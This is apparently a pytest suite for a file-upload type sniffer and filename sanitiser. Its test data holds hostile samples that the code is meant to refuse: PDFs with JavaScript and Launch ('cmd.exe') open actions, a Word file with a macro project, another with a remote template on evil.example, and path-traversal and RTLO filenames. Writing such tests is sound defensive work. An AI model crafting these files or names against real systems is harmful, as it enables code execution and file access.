"""R17: a file is what is in it; a hostile one is answered with a sentence, soon, unopened."""

import io
import time
import tracemalloc
import zlib

import pikepdf
import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from consult.errors import Invalid
from consult.services.submissions.sniff import MOST_BYTES, kind_of, plain_name
from tests.drafts import hostile
from tests.drafts.word_files import docx

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"IEND\xaeB`\x82"
JPG = b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9"
TEMPLATE = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    '<Relationships><Relationship Id="r" Type="http://x/hyperlink" '
    'Target="https://ok.example/" TargetMode="External"/></Relationships>'
)
NO_FORMAT_OF_OURS = [
    (what, data)
    for what, name, data, _ in hostile.uploads()
    if name.endswith((".docx", ".pdf")) and what not in {"text renamed", "no pages", "loop"}
]
"""What the reader of drafts refuses for what it says (an empty page, XML too deep) is a file all
the same: staff open it, nobody here does."""
ONLY_UNREADABLE = {"deep", "broken", "empty", "endless", "entity in UTF-16"} | {
    "two documents",
    "lzma",
}


def pdf(**more: object) -> bytes:
    made, file = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    for name, value in more.items():
        made.Root[f"/{name}"] = value
    made.save(file, compress_streams=False)
    return file.getvalue()


def word() -> bytes:
    file = io.BytesIO()
    Document().save(file)
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (pdf(), "pdf"),
        (word(), "docx"),
        (docx(**{"word/_rels/document.xml.rels": LINK}), "docx"),
        (PNG, "png"),
        (JPG, "jpg"),
        ("第一条　甲。\r\n".encode(), "txt"),
        ("第一条　甲。".encode("gb18030"), "txt"),
        (b"\xef\xbb\xbfabc", "txt"),
        (b"<script>alert(1)</script>", "txt"),
    ],
)
def test_it_is_known_by_its_content(data: bytes, kind: str) -> None:
    assert kind_of(data) == kind


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\0" * 100,
        b"MZ\x90\0",
        b"\x7fELF\x02\x01",
        b"GIF89a\x01\0",
        b"Rar!\x1a\x07\0",
        hostile.OLE + b"\0" * 4096,
        pdf()[:-40],
        PNG[:-8],
        JPG[:20],
        b"%PDF-1.7",
        pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
        pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
        docx(**{"word/vbaProject.bin": b"x"}),
        docx(**{"word/_rels/settings.xml.rels": TEMPLATE}),
        b"x" * (MOST_BYTES + 1),
        zlib.compress(b"x" * 1000),
    ],
)
def test_anything_else_is_refused_with_what_to_do(data: bytes) -> None:
    with pytest.raises(Invalid) as caught:
        kind_of(data)
    assert str(caught.value).endswith("。")
    assert caught.value.field == "file"


@pytest.mark.parametrize(
    ("what", "data"), NO_FORMAT_OF_OURS, ids=[what for what, _ in NO_FORMAT_OF_OURS]
)
def test_r17_a_hostile_file_is_answered_soon_and_in_little_room(what: str, data: bytes) -> None:
    begun = time.monotonic()
    tracemalloc.start()
    try:
        kind_of(data)
    except Invalid as error:
        assert str(error).endswith("。")
    else:
        assert what in ONLY_UNREADABLE
    finally:
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert time.monotonic() - begun < 5
    assert most < 64 * 1024 * 1024


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300), st.sampled_from([b"", b"%PDF-", b"PK\x03\x04", PNG[:8], JPG[:3]]))
def test_no_bytes_surprise_it(tail: bytes, head: bytes) -> None:
    try:
        assert kind_of(head + tail) in {"pdf", "docx", "jpg", "png", "txt"}
    except Invalid as error:
        assert error.message


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("照片.JPEG", "照片.jpg"),
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\temp\\狗.exe", "狗.jpg"),
        ("a\u202egpj.exe", "agpj.jpg"),
        ("a\r\nX: y.png", "aX: y.jpg"),
        ("\x00", "file.jpg"),
        ("...", "file.jpg"),
        ("字" * 300 + ".png", "字" * 80 + ".jpg"),
    ],
)
def test_a_name_leads_nowhere_and_hides_nothing(given: str, shown: str) -> None:
    assert plain_name(given, "jpg") == shown
